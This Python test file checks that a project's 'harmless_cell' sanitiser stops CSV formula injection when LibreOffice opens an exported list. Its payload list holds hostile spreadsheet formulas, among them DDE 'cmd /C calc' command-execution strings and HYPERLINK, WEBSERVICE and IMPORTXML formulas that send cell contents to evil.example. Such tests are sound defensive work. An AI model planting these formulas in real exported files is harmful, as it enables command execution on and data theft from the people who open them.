"""A real spreadsheet opens the list of requests: no cell of it works as a formula."""

import csv
import io
import shutil
import subprocess

import pytest

from dsar_assistant.services.list_file import harmless_cell

SOFFICE = shutil.which("soffice") or ""
pytestmark = pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not on this computer")
PAYLOADS = [
    *(f"{sign}1+1" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uff1d")),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!D2",
    '="a"&"b"',
    "=A1",
    '",=1+1,"',
    '"\n=1+1',
    ";=1+1",
    "=1+1\x00",
    "++1",
]


def write(path, cells):
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([cell] for cell in cells)
    path.write_bytes(text.getvalue().encode("utf-8-sig"))


@pytest.fixture(scope="module")
def sheets(tmp_path_factory):
    """Open two lists as a careless person does, with formulas wanted; gives what came of them."""
    folder = tmp_path_factory.mktemp("office")
    write(folder / "ours.csv", map(harmless_cell, PAYLOADS))
    write(folder / "raw.csv", (text.replace("\0", "") for text in PAYLOADS))
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [SOFFICE, profile, "--headless", "--convert-to", "fods", "--outdir", str(folder)]
    careless = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    lists = [str(folder / "ours.csv"), str(folder / "raw.csv")]
    subprocess.run([*command, careless, *lists], check=True, capture_output=True, timeout=120)
    found = {file.stem: file.read_text("utf-8") for file in folder.glob("*.fods")}
    if not found:
        pytest.skip("LibreOffice has no spreadsheet on this computer")
    return found


def test_no_hostile_cell_is_a_formula_in_a_real_spreadsheet(sheets):
    assert len(PAYLOADS) == 25
    assert "table:formula" not in sheets["ours"]


def test_the_same_cells_are_formulas_when_nothing_is_done(sheets):
    assert "table:formula" in sheets["raw"]
